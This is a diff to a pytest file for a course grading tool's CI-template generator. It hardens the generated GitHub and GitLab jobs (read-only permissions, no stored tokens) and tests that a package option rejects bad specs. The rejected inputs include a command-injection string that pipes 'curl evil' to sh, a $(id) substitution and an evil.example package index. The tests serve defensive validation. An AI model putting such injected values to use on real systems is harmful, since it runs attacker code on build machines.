@@ -61,7 +61,11 @@ def test_github_workflow_runs_as_actions_runs_it(tmp_path: Path) -> None:
     assert NOTE in text
     workflow = yaml.safe_load(text)
     job = workflow["jobs"]["g14-checks"]
-    assert workflow["permissions"] == {"contents": "read", "checks": "write"}
+    assert workflow["permissions"] == {"contents": "read"} == job["permissions"]  # read-only, for the job too
+    assert "secrets." not in text and "github.token" not in text and "env" not in job
+    checkout = [s for s in job["steps"] if s.get("uses", "").startswith("actions/checkout")]
+    assert checkout[0]["with"] == {"persist-credentials": False}  # no token left in .git/config for student code
+    assert "Classroom" not in text.replace("GitHub Classroom\n        # read until its retirement on 2026-08-28", "")
     runs = [step["run"] for step in job["steps"] if "run" in step]
     assert runs[0] == 'python -m pip install "dist/g14.whl"'
     summary = tmp_path / "step-summary.md"
@@ -98,7 +102,9 @@ def test_gitlab_job_runs_as_gitlab_runs_it(tmp_path: Path) -> None:
     assert NOTE in text
     job = yaml.safe_load(text)["g14-checks"]
     env = _env(GITLAB_CI="true", CI="true", CI_PROJECT_DIR=str(repo), CI_JOB_NAME="g14-checks")
-    codes = [_run(line, repo, env).returncode for line in job["script"] if not _installs(line)]
+    assert job["script"][0] == "unset CI_JOB_TOKEN CI_REPOSITORY_URL CI_REGISTRY_PASSWORD CI_DEPENDENCY_PROXY_PASSWORD"
+    assert job["script"][1] == 'python -m pip install "dist/g14.whl"' and "variables" not in job
+    codes = [_run(line, repo, env).returncode for line in job["script"][2:]]
     assert codes == [1]
     assert job["artifacts"] == {"when": "always", "reports": {"junit": "junit.xml"}}
     xml = JUnitXml.fromfile(str(repo / job["artifacts"]["reports"]["junit"]))
@@ -176,11 +182,11 @@ def test_classroom50_autograder_writes_result_json_v1(tmp_path: Path) -> None:
 
 
 def test_init_ci_refuses_to_overwrite_and_an_unknown_target(tmp_path: Path, cli) -> None:  # noqa: ANN001
-    code, out, err = cli("init-ci", "github", "--dir", tmp_path)
+    code, out, err = cli("init-ci", "github", "--dir", tmp_path, "--package", "g14-grader==0.1.0")
     assert code == 0 and (tmp_path / ".github" / "workflows" / "g14-checks.yml").is_file()
-    code, out, err = cli("init-ci", "github", "--dir", tmp_path)
+    code, out, err = cli("init-ci", "github", "--dir", tmp_path, "--package", "g14-grader==0.1.0")
     assert code == 2 and "exists; remove it or pass --force" in err
-    assert cli("init-ci", "github", "--dir", tmp_path, "--force")[0] == 0
+    assert cli("init-ci", "github", "--dir", tmp_path, "--force", "--package", "g14-grader")[0] == 0
     code, _, err = cli("init-ci", "jenkins")
     assert code == 2 and "invalid choice: 'jenkins'" in err
 
@@ -189,3 +195,61 @@ def test_init_ci_refuses_to_overwrite_and_an_unknown_target(tmp_path: Path, cli)
 def test_the_classroom_options_are_for_check_only(cli, command: list[str]) -> None:  # noqa: ANN001
     code, _, err = cli(*command, "--points-notice")
     assert code == 2 and "unrecognized arguments: --points-notice" in err
+
+
+PACKAGE_HELP = (
+    "the course's student wheel as a path in the template repository (dist/NAME.whl), an https:// URL, "
+    "or the name the course publishes it under on its package index (NAME or NAME==VERSION)"
+)
+
+
+@pytest.mark.parametrize("target", ["github", "gitlab", "classroom50"])
+def test_init_ci_without_package_exits_2_with_one_line_and_writes_nothing(tmp_path: Path, cli, target: str) -> None:  # noqa: ANN001
+    code, out, err = cli("init-ci", target, "--dir", tmp_path)
+    assert (code, out) == (2, "")
+    assert err == f"grader: error: init-ci: --package is required: {PACKAGE_HELP}\n"
+    assert list(tmp_path.iterdir()) == []
+
+
+@pytest.mark.parametrize(
+    "spec",
+    [
+        "g14 grader",  # two requirements to pip
+        "g14-grader numpy",
+        "",
+        "--index-url=https://evil.example/simple",  # an option, not a package
+        "-e.",
+        "/abs/dist/g14.whl",  # outside the template repository
+        "../dist/g14.whl",
+        "dist/../../g14.whl",
+        "dist/g14.tar.gz",  # a path that is not a wheel
+        "http://example.org/g14.whl",  # no TLS: anyone on the way chooses what is installed
+        "https://example.org/g 14.whl",
+        'g14"; curl evil|sh; "',
+        "https://example.org/$(id).whl",
+        "g14-grader>=0",  # one version or none: a range lets a later upload in
+        "g14\ngrader",
+    ],
+)
+def test_init_ci_refuses_a_package_that_is_not_one_thing(tmp_path: Path, cli, spec: str) -> None:  # noqa: ANN001
+    code, out, err = cli("init-ci", "gitlab", "--dir", tmp_path, f"--package={spec}")
+    assert (code, out) == (2, "") and err.count("\n") == 1
+    assert err.startswith("grader: error: --package ") and err.endswith(f"not one package; give {PACKAGE_HELP}\n")
+    assert list(tmp_path.iterdir()) == []
+
+
+@pytest.mark.parametrize(
+    "spec",
+    [
+        "dist/g14_grader-0.1.0-py3-none-any.whl",
+        "g14.whl",
+        "https://example.org/w/g14-0.1-py3-none-any.whl",
+        "g14-grader",
+    ],
+)
+def test_init_ci_writes_the_package_as_given(tmp_path: Path, cli, spec: str) -> None:  # noqa: ANN001
+    for target, rel in (("github", ".github/workflows/g14-checks.yml"), ("gitlab", ".gitlab-ci.yml")):
+        assert cli("init-ci", target, "--dir", tmp_path, "--package", spec, "--force")[0] == 0
+        assert f'python -m pip install "{spec}"' in (tmp_path / rel).read_text()
+    assert cli("init-ci", "classroom50", "--dir", tmp_path, "--package", spec)[0] == 0
+    assert f'PACKAGE = "{spec}"' in (tmp_path / "autograder.py").read_text()
